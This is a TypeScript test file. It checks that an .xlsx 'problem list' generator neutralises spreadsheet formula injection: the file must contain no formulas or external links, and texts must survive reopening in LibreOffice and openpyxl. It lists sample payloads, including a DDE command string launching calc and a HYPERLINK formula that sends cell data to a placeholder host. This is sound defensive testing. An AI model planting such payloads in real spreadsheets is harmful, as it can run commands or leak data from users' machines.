import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import type { ClientQuestion, ProblemList } from '@shared/domain/importing/checks/client-question'
import { writeProblemList } from '@shared/formats/xlsx/problem-list'
import { findDocumentTools } from '../../helpers/document-tools'
import { injectionList } from './injection-list'
import { officeFindings, recalculate } from './reopen'

const found = findDocumentTools()

/** A list in which every text of the client's is one of the list of injections, in every column and as a choice. */
function hostileList(): ProblemList {
  const text = (at: number): string => injectionList[at % injectionList.length] ?? ''
  const questions = injectionList.map((_, at): ClientQuestion => ({
    id: `Q1-${'0'.repeat(8)}-0-not-a-number-A${at + 1}`,
    fileName: text(at),
    sheetName: text(at + 1),
    place: text(at + 2),
    code: 'not-a-number',
    found: text(at + 3),
    read: text(at + 4),
    question: text(at + 5),
    choices: at % 2 === 0 ? null : [text(at), text(at + 1)],
    isOpen: true
  }))
  const notAsked = injectionList.map((one, at) => ({
    ...{ fileName: one, sheetName: text(at + 1), found: text(at + 2), count: 2 },
    cells: [{ place: text(at + 3), read: text(at + 4) }]
  }))
  return { clientName: '=1+1 &C&D "x"', date: '2026-07-10', questions, notAsked }
}

const bytes = await writeProblemList(hostileList())

describe('the problem list with texts made to break it', () => {
  it('passes Microsoft’s validator', async () => {
    expect(await officeFindings(bytes, 'questions.xlsx')).toEqual([])
  })

  it('prints its header on every page', () => {
    const workbook = strFromU8(unzipSync(bytes)['xl/workbook.xml']!)
    const titles = [...workbook.matchAll(/Print_Titles"[^>]*>([^<]+)</g)].map(([, rows]) => rows)
    expect(titles).toEqual(['&apos;Questions&apos;!$4:$4', '&apos;Also found&apos;!$1:$1'])
  })

  it('holds no formula and no link out of the file', () => {
    const parts = Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)] as const)
    expect(parts.filter(([, xml]) => xml.includes('TargetMode="External"'))).toEqual([])
    const sheets = parts.filter(([name]) => name.startsWith('xl/worksheets/sheet'))
    expect(sheets.length).toBeGreaterThan(3)
    expect(sheets.filter(([, xml]) => /<f[\s>]|<hyperlink /.test(xml)).map(([name]) => name)).toEqual([])
  })
})

if ('missing' in found) it.skip(`re-opening needs other programs, ${found.missing}`, () => {})

describe.runIf('tools' in found)('the problem list re-opened by LibreOffice and openpyxl', () => {
  it('keeps every text as the text it is', async () => {
    const tools = 'tools' in found ? found.tools : null!
    const read = await recalculate(bytes, tools)
    expect([read.formulas, read.formulasAfterLibreOffice]).toEqual([0, 0])
    const texts = new Set(read.sheets.Questions!.flat().map(String))
    for (const text of ['=1+1', "=cmd|' /C calc'!A0", '＝1+1', '@SUM(1,1)']) expect(texts).toContain(text)
    const also = new Set(read.sheets['Also found']!.flat().map(String))
    expect(also).toContain('=HYPERLINK("http://example.invalid/?x="&A1,"Click")')
  })
})
